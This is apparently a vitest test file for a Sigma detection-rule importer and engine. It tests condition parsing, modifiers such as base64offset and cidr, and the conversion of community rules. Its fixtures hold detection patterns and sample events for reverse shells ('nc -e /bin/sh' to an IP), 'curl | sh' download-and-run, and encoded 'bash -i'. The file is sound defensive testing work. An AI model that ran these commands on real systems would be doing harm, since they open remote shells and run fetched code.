// Sigma import (src/rules/sigma): the condition grammar and field modifiers as the specification
// defines them, the conversion of the 214 community rules of ../shared/sigma (what converts, what
// does not and why, by logsource), and every converted rule held against the reference evaluator
// on positive and negative events generated from the rule's own fields.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileRules } from '../../src/rules/index.js';
import { Engine } from '../../src/rules/engine.js';
import { convertSigma } from '../../src/rules/sigma/convert.js';
import { sigmaMatches } from '../../src/rules/sigma/evaluate.js';
import { negatives, positives, wardenEvent } from '../../src/rules/sigma/generate.js';
import { importSigma, logsourceTable, renderPack } from '../../src/rules/sigma/index.js';
import { base64Variants, parseCondition, parseSigma, SigmaError, type SigmaRule } from '../../src/rules/sigma/sigma.js';
import type { UnstampedEvent } from '../../src/events/types.js';

const SIGMA_DIR = path.resolve(__dirname, '..', '..', '..', 'shared', 'sigma');

function rule(detection: string, logsource = 'process_creation', extra = ''): SigmaRule {
  return parseSigma(`title: t\nid: 00000000-0000-0000-0000-000000000001\ntags: [attack.execution, attack.t1059]\nlevel: high\nlogsource: { category: ${logsource}, product: linux }\n${extra}detection:\n${detection}`, 'test/t.yml');
}

/** The converted rule's verdict on the Warden event for a flat event. */
function wardenFires(r: SigmaRule, flat: Record<string, string | number | boolean | undefined>): boolean {
  const c = convertSigma(r);
  if (!c.ok) throw new Error(c.reason);
  const set = compileRules({ sources: [{ file: 't.yaml', text: renderPack([c.rule], '') }] });
  const engine = new Engine(set);
  let fired = false;
  engine.process(wardenEvent(r, flat) as UnstampedEvent, (e) => {
    if (e.rule === c.rule.id || e.also?.includes(c.rule.id)) fired = true;
  });
  return fired;
}

describe('sigma conditions', () => {
  it('parses precedence, not, parentheses and 1 of / all of', () => {
    expect(parseCondition('a or b and not c')).toEqual({ t: 'or', a: { t: 'id', name: 'a' }, b: { t: 'and', a: { t: 'id', name: 'b' }, b: { t: 'not', a: { t: 'id', name: 'c' } } } });
    expect(parseCondition('(a or b) and 1 of sel_*')).toEqual({ t: 'and', a: { t: 'or', a: { t: 'id', name: 'a' }, b: { t: 'id', name: 'b' } }, b: { t: 'of', quant: 'one', pattern: 'sel_*' } });
    expect(parseCondition('all of them')).toEqual({ t: 'of', quant: 'all', pattern: 'them' });
  });
  it('refuses aggregations and malformed conditions with a reason', () => {
    expect(() => parseCondition('selection | count() by host > 5')).toThrow(SigmaError);
    expect(() => parseCondition('a and')).toThrow(/ends early/);
    expect(() => parseCondition('(a or b')).toThrow(/missing \)/);
  });
});

describe('sigma modifiers and values (converted rule vs reference evaluator)', () => {
  const cases: Array<[string, Record<string, string | number>, boolean]> = [
    ['    sel:\n      CommandLine|contains: "-e /bin/sh"\n    condition: sel', { CommandLine: 'nc -e /bin/sh 1.2.3.4' }, true],
    ['    sel:\n      CommandLine|contains: "-e /bin/sh"\n    condition: sel', { CommandLine: 'NC -E /BIN/SH x' }, true],
    ['    sel:\n      CommandLine|contains|cased: "-e /bin/sh"\n    condition: sel', { CommandLine: 'NC -E /BIN/SH x' }, false],
    ['    sel:\n      CommandLine|contains|all: [a1, b2]\n    condition: sel', { CommandLine: 'x a1 y' }, false],
    ['    sel:\n      CommandLine|contains|all: [a1, b2]\n    condition: sel', { CommandLine: 'b2 x a1' }, true],
    ['    sel:\n      Image|endswith: [/nc, /ncat]\n    condition: sel', { Image: '/usr/bin/ncat' }, true],
    ['    sel:\n      Image: "*/python?"\n    condition: sel', { Image: '/usr/bin/python3' }, true],
    ['    sel:\n      Image: "*/python?"\n    condition: sel', { Image: '/usr/bin/python31' }, false],
    ['    sel:\n      CommandLine|re: "(?i)^curl .*\\\\| *sh$"\n    condition: sel', { CommandLine: 'CURL http://x | sh' }, true],
    ['    sel:\n      CommandLine|startswith: "bash -i"\n    filter:\n      CommandLine|contains: "--norc"\n    condition: sel and not filter', { CommandLine: 'bash -i --norc' }, false],
    ['    sel:\n      CommandLine|base64offset|contains: "/bin/bash"\n    condition: sel', { CommandLine: `echo ${Buffer.from('xx/bin/bash -i').toString('base64')} | base64 -d` }, true],
    ['    sel:\n      CommandLine|windash|contains: " -exec "\n    condition: sel', { CommandLine: 'find . /exec ' }, true],
    ['    sel_a:\n      Image|endswith: /tar\n    sel_b:\n      CommandLine|contains: checkpoint\n    condition: all of sel_*', { Image: '/bin/tar', CommandLine: 'tar cf x --checkpoint=1' }, true],
    ['    sel_a:\n      Image|endswith: /tar\n    sel_b:\n      CommandLine|contains: checkpoint\n    condition: 1 of sel_*', { Image: '/bin/zip', CommandLine: 'x checkpoint' }, true],
  ];
  for (const [det, ev, want] of cases) {
    it(`${det.replace(/\s+/g, ' ').slice(0, 70)} on ${JSON.stringify(ev).slice(0, 50)} -> ${want}`, () => {
      const r = rule(det);
      const flat = { Image: '/usr/bin/true', CommandLine: 'true', ...ev };
      expect(sigmaMatches(r, flat)).toBe(want);
      expect(wardenFires(r, flat)).toBe(want);
    });
  }
  it('cidr and ports on network connections; unix sockets are not network connections', () => {
    const r = rule('    sel:\n      DestinationIp|cidr: 10.0.0.0/8\n      DestinationPort: 4444\n    condition: sel', 'network_connection');
    expect(wardenFires(r, { Image: '/bin/bash', DestinationIp: '10.2.3.4', DestinationPort: 4444 })).toBe(true);
    expect(wardenFires(r, { Image: '/bin/bash', DestinationIp: '11.2.3.4', DestinationPort: 4444 })).toBe(false);
    expect(wardenFires(r, { Image: '/bin/bash', DestinationIp: '10.2.3.4', DestinationPort: 4444, Protocol: 'unix' })).toBe(false);
  });
  it('base64offset gives the three shifted encodings of the specification', () => {
    expect(base64Variants('/bin/bash', true)).toEqual(['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
  });
  it('says why a rule cannot be converted', () => {
    const cases: Array<[string, string, RegExp]> = [
      ['    sel:\n      ParentImage|endswith: /java\n    condition: sel', 'process_creation', /parent's image/],
      ['    sel:\n      a0: x\n    condition: sel', 'process_creation', /field a0/],
      ['    keywords:\n      - "segfault"\n    condition: keywords', 'process_creation', /keyword list/],
      ['    sel:\n      Image: x\n    condition: sel | count() > 3', 'process_creation', /aggregation/],
      ['    sel:\n      CommandLine|expand: "%x%"\n    condition: sel', 'process_creation', /placeholders/],
      ['    sel:\n      Image: x\n    condition: sel', 'registry_set', /registry_set/],
    ];
    for (const [det, ls, re] of cases) {
      const c = convertSigma(rule(det, ls));
      expect(c.ok).toBe(false);
      if (!c.ok) expect(c.reason).toMatch(re);
    }
  });
  it('keeps provenance for the Detection Rule License and maps level and tags', () => {
    const c = convertSigma(rule('    sel:\n      Image|endswith: /nc\n    condition: sel', 'process_creation', 'author: A. Author\nreferences: [https://example.invalid/r]\n'));
    expect(c.ok).toBe(true);
    if (!c.ok) return;
    expect(c.rule).toMatchObject({ severity: 'alert', category: 'execution', mitre: ['T1059'], origin: { author: 'A. Author', references: ['https://example.invalid/r'], license: 'DRL-1.1' } });
  });
});

describe.skipIf(!fs.existsSync(SIGMA_DIR))('the community rules of ../shared/sigma', () => {
  const result = importSigma([SIGMA_DIR], SIGMA_DIR);
  it('converts what Warden has events and fields for and says why for the rest', () => {
    process.stdout.write('\n' + logsourceTable(result));
    expect(result.converted.length + result.skipped.length).toBe(214);
    for (const e of result.skipped) expect(e.reason, e.file).toBeTruthy();
    // what Warden has events for converts, except rules needing fields the events do not carry
    const bySource = (ls: string) => result.converted.filter((e) => e.logsource === ls).length;
    expect(bySource('file_event')).toBe(10);
    expect(bySource('network_connection')).toBe(5);
    expect(bySource('process_creation')).toBeGreaterThanOrEqual(110);
    for (const e of result.skipped.filter((x) => x.logsource === 'process_creation')) expect(e.reason).toMatch(/Parent|LogonId/);
    expect(result.converted.filter((e) => e.logsource.startsWith('service:'))).toEqual([]);
  });
  it('the shipped pack is the importer output of this corpus', () => {
    const shipped = fs.readFileSync(path.resolve(__dirname, '..', '..', 'rules', 'packs', 'sigma', 'sigma.yaml'), 'utf8');
    expect(shipped).toBe(renderPack(result.converted.map((e) => e.rule!)));
  });
  it('every converted rule agrees with the reference evaluator on positives and negatives generated from its fields', () => {
    const set = compileRules({ sources: [{ file: 'pack.yaml', text: renderPack(result.converted.map((e) => e.rule!), '') }] });
    let withPositive = 0;
    let withNegative = 0;
    const disagreements: string[] = [];
    const noPositive: string[] = [];
    for (const e of result.converted) {
      const r = e.sigma!;
      const pos = positives(r);
      const neg = negatives(r, pos);
      if (pos.length) withPositive++;
      else noPositive.push(e.file);
      if (neg.length) withNegative++;
      for (const [flat, want] of [...pos.map((p) => [p, true] as const), ...neg.map((n) => [n, false] as const)]) {
        const engine = new Engine(set);
        let fired = false;
        engine.process(wardenEvent(r, flat) as UnstampedEvent, (x) => {
          if (x.rule === e.rule!.id || x.also?.includes(e.rule!.id)) fired = true;
        });
        if (fired !== want) disagreements.push(`${e.file}: ${want ? 'missed' : 'fired on'} ${JSON.stringify(flat)}`);
      }
    }
    process.stdout.write(`\nsigma check: ${withPositive}/${result.converted.length} rules with generated positives, ${withNegative} with negatives; no positive generated: ${noPositive.join(', ') || 'none'}\n`);
    expect(disagreements).toEqual([]);
    expect(withPositive).toBeGreaterThanOrEqual(Math.floor(result.converted.length * 0.9));
    expect(withNegative).toBe(result.converted.length);
  });
});
